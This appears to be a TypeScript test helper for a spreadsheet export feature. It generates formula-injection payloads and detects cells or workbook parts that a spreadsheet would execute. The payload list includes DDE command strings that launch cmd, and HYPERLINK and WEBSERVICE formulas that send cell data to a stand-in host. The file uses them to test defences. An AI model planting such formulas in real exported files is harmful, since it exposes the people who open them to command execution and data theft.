import { Archive, readEntries } from '../../server/imports/archive.ts';
import { textOf } from '../../server/imports/xml.ts';
import { tableOf } from '../../test/export-desk.ts';
import { uploadOf } from '../../test/workbook.ts';

/** What a spreadsheet begins a formula with, also behind blanks, signs that nobody sees, and in full width. */
const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u3000=', '\u00a0=', '\u0001=', '\u200b=', '\ufeff='];
const wide = ['＝', '＋', '－', '＠', ' ＝', '\t＠'];

const bodies = [
  '1+1',
  'A1',
  '示例工会',
  'SUM(A1:A9)',
  `cmd|' /C calc'!A0`,
  'DDE("cmd";"/C calc";"示例")',
  'HYPERLINK("http://x.example/?q="&A2,"点这里")',
  'WEBSERVICE("http://x.example/"&B2)',
  'IMPORTXML("http://x.example","//a")',
  'INDIRECT("A1")',
  '"甲,乙"&C1',
  `2+5+cmd|'/C x'!A0`,
];

/** Texts that a spreadsheet would run if they stood in a cell as they are. Each is told apart from every other by its whole. */
export const formulas: readonly string[] = [...signs, ...wide].flatMap((sign) => bodies.map((body) => sign + body));

/** Some of them, among which is each sign and each body. */
export const fewFormulas: readonly string[] = [...signs, ...wide].map((sign, n) => sign + bodies[n % bodies.length]!);

/**
 * Whether a cell would be run, judged more strictly than any spreadsheet does: without what stands before the first sign that
 * can be seen, and in whatever width that is written.
 */
export function wouldRun(cell: string): boolean {
  const [first = ''] = cell.replace(/^[\p{White_Space}\p{Cc}\p{Cf}]+/u, '').normalize('NFKC');
  return '=+-@'.includes(first) && first !== '';
}

const livingParts = /externallink|vba|macrosheet|activex|oleobject|connections|query/i;

/** What of a workbook is no plain text or number: formulas, cells of other kinds, parts that fetch or run. */
async function livingIn(bytes: Buffer): Promise<string[]> {
  const upload = uploadOf(bytes);
  const entries = await readEntries(upload);
  const archive = new Archive(upload, entries);
  const parts = [...entries.keys()];
  const found = parts.filter((name) => livingParts.test(name));
  for (const name of parts.filter((part) => part.includes('worksheets/'))) {
    const sheet = await archive.part(name);
    for (const [tag] of sheet.matchAll(/<f[\s>/][^<]*/g)) found.push(tag);
    for (const [, kind] of sheet.matchAll(/<c [^>]*\bt="(?!inlineStr")(\w+)"/g)) found.push(`a cell of ${kind}`);
    for (const [, text] of sheet.matchAll(/<t\b[^>]*>([^<]*)<\/t>/g)) {
      const cell = textOf(Buffer.from(text!).toString('latin1'));
      if (wouldRun(cell)) found.push(cell);
    }
  }
  return found;
}

/** Everything in a file, a workbook or comma-separated values, that a spreadsheet would run. */
export async function runsIn(bytes: Buffer): Promise<string[]> {
  if (bytes.subarray(0, 2).toString() === 'PK') return livingIn(bytes);
  const { lines } = await tableOf(bytes);
  return lines.flat().filter(wouldRun);
}
